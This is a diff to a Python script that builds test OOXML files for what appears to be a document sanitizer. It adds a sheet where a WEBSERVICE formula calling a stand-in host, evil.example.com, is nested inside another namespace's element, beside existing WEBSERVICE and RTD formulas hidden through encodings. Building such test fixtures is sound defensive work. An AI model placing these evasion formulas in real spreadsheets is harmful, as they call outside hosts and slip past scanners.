@@ -37,7 +37,8 @@
                     name split by a processing instruction (in a cell, a
                     conditional format and a data validation, in a part with a
                     BOM), a comment, CDATA, entity references, another prefix
-                    for SpreadsheetML, a sheet in UTF-16 and one in Shift_JIS
+                    for SpreadsheetML, a sheet in UTF-16 and one in Shift_JIS, a
+                    formula inside another namespace's element named f
   malformed.docx    a custom XML part that is not well-formed (never copied unread)
 Usage: make_ooxml_attacks.py OUTDIR
 """
@@ -430,17 +431,22 @@ UTF16 = sheet('<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://evil.exampl
               '</row></sheetData>')
 SJIS = sheet('<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>表</t></is></c>'
              '<c r="B1"><f>RTD("evil.example.com",,"sj")</f><v>1</v></c></row></sheetData>')
+# a cell formula inside an element of another namespace also named f, whose text
+# (a string literal around it) calls nothing: the inner one is read on its own
+NESTED = sheet('<sheetData><row r="1"><c r="A1"><x:f xmlns:x="urn:example:other">"'
+               '<f>WEBSERVICE("http://evil.example.com/nested")</f>"</x:f><v>1</v></c></row></sheetData>')
 write("hidden.xlsx", [
     ("[Content_Types].xml", ctypes([("xml", "application/xml")], [("/xl/workbook.xml", XL + "sheet.main+xml")] + [
-        ("/xl/worksheets/sheet%d.xml" % i, XL + "worksheet+xml") for i in range(1, 5)])),
+        ("/xl/worksheets/sheet%d.xml" % i, XL + "worksheet+xml") for i in range(1, 6)])),
     ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
     ("xl/workbook.xml", DECL + '<workbook %s><sheets>%s</sheets></workbook>' % (SML, "".join(
-        '<sheet name="s%d" sheetId="%d" r:id="rId%d"/>' % (i, i, i) for i in range(1, 5)))),
-    ("xl/_rels/workbook.xml.rels", rels(*[("rId%d" % i, "worksheet", "worksheets/sheet%d.xml" % i) for i in range(1, 5)])),
+        '<sheet name="s%d" sheetId="%d" r:id="rId%d"/>' % (i, i, i) for i in range(1, 6)))),
+    ("xl/_rels/workbook.xml.rels", rels(*[("rId%d" % i, "worksheet", "worksheets/sheet%d.xml" % i) for i in range(1, 6)])),
     ("xl/worksheets/sheet1.xml", b"\xef\xbb\xbf" + (DECL + PI_SPLIT).encode()),
     ("xl/worksheets/sheet2.xml", DECL + OTHER_FORMS),
     ("xl/worksheets/sheet3.xml", b"\xff\xfe" + (DECL.replace("UTF-8", "UTF-16") + UTF16).encode("utf-16-le")),
     ("xl/worksheets/sheet4.xml", (DECL.replace("UTF-8", "Shift_JIS") + SJIS).encode("shift_jis")),
+    ("xl/worksheets/sheet5.xml", DECL + NESTED),
 ])
 
 write("malformed.docx", [
